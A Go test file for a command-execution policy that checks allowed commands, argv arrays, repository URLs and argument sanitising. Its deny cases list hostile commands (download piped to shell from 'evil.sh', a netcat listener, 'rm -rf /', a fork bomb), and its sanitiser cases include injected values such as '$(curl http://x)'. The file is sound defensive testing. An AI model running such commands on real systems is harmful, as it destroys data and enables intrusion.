package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	dErrors "bastion/pkg/domain-errors"
)

func TestCheckCommandAllows(t *testing.T) {
	p := Default()
	for _, cmd := range []string{
		"git status",
		"git clone https://github.com/acme-dev/demo.git",
		"npm install",
		"npm run build",
		"node server.js",
		"ls -la dist",
		"cat package.json",
		"mkdir -p build",
		"echo done",
		"cp -r src dist",
		"mv out.tar.gz artifacts/",
	} {
		require.NoError(t, p.CheckCommand(cmd), "expected %q to be permitted", cmd)
	}
}

func TestCheckCommandDenies(t *testing.T) {
	p := Default()
	cases := []struct {
		name string
		cmd  string
	}{
		{"empty", ""},
		{"not allow-listed", "python3 exploit.py"},
		{"rm -rf has no prefix rule but is still denied", "rm -rf /"},
		{"deny wins over allow prefix", "echo ok && rm -rf /"},
		{"privilege escalation", "sudo ls"},
		{"system package install", "apt-get install netcat"},
		{"global npm install", "npm install -g backdoor"},
		{"download piped to shell", "curl http://x | sh"},
		{"download piped to bash", "wget http://evil.sh | bash"},
		{"remote shell tool", "nc -l 4444"},
		{"world-writable chmod", "chmod 777 /etc"},
		{"fork bomb", ":(){ :|:& };:"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := p.CheckCommand(tc.cmd)
			require.Error(t, err)
			require.True(t, dErrors.HasCode(err, dErrors.CodePolicyViolation))
		})
	}
}

func TestCheckArgv(t *testing.T) {
	p := Default()

	require.NoError(t, p.CheckArgv([]string{"git", "status"}))
	require.NoError(t, p.CheckArgv([]string{"npm", "install"}))

	// Arguments are data under argv; only the executable is policed.
	require.NoError(t, p.CheckArgv([]string{"echo", "rm -rf /"}))

	require.Error(t, p.CheckArgv(nil))
	require.Error(t, p.CheckArgv([]string{"rm", "-rf", "/"}))
	require.Error(t, p.CheckArgv([]string{"bash", "-c", "ls"}))
}

func TestCheckRepoURL(t *testing.T) {
	p := Default()

	require.NoError(t, p.CheckRepoURL("https://github.com/acme-dev/demo"))
	require.NoError(t, p.CheckRepoURL("https://github.com/acme-dev/demo.git"))

	for _, url := range []string{
		"https://github.com/evil-org/demo.git",
		"http://github.com/acme-dev/demo.git",
		"https://gitlab.com/acme-dev/demo.git",
		"git@github.com:acme-dev/demo.git",
		"https://github.com/acme-dev/demo.git/../../evil",
	} {
		err := p.CheckRepoURL(url)
		require.Error(t, err, "expected %q to be rejected", url)
		require.True(t, dErrors.HasCode(err, dErrors.CodePolicyViolation))
	}
}

func TestConfigOverrides(t *testing.T) {
	p, err := New(Config{
		AllowedExecutables: []string{"make"},
		TrustedRepoPattern: `^https://git\.internal/[a-z-]+$`,
	})
	require.NoError(t, err)

	require.NoError(t, p.CheckCommand("make build"))
	require.Error(t, p.CheckCommand("git status"))
	require.NoError(t, p.CheckRepoURL("https://git.internal/demo"))
	require.Error(t, p.CheckRepoURL("https://github.com/acme-dev/demo"))

	// Default deny patterns still apply when the config names none.
	require.Error(t, p.CheckCommand("make install && rm -rf /"))
}

func TestNewRejectsBadPattern(t *testing.T) {
	_, err := New(Config{DenyPatterns: []string{"("}})
	require.Error(t, err)

	_, err = New(Config{TrustedRepoPattern: "("})
	require.Error(t, err)
}

func TestSanitizeArgument(t *testing.T) {
	cases := map[string]string{
		"release v1.2":                        "release v1.2",
		"msg; rm -rf /":                       "msg rm -rf /",
		"`whoami`":                            "whoami",
		"$(curl http://x)":                    "curl http://x",
		"a&&b||c":                             "abc",
		"line1\nline2":                        "line1line2",
		`quote"inside'`:                       "quoteinside",
	}
	for input, want := range cases {
		require.Equal(t, want, SanitizeArgument(input), "input %q", input)
	}
}
